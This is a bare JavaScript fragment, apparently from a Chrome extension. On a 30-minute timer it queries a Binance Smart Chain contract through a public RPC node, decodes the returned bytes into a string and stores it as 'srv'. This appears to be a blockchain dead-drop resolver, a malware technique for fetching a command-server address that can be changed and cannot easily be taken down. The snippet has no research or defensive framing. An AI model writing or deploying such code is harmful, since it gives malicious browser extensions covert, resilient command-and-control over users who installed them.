async function readContract() {
  const res = await fetch("https://bsc-dataseed1.binance.org/", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ jsonrpc: "2.0", id: 97, method: "eth_call", params: [{ to: "0x0000000000000000000000000000000000000abc", data: "0x6d4ce63c" }, "latest"] }) });
  const { result } = await res.json();
  const hex = result.slice(130);
  let s = "";
  for (let i = 0; i < hex.length; i += 2) { const c = parseInt(hex.substr(i, 2), 16); if (c) s += String.fromCharCode(c); }
  return s;
}
chrome.alarms.create("x", { periodInMinutes: 30 });
chrome.alarms.onAlarm.addListener(async () => chrome.storage.local.set({ srv: await readContract() }));
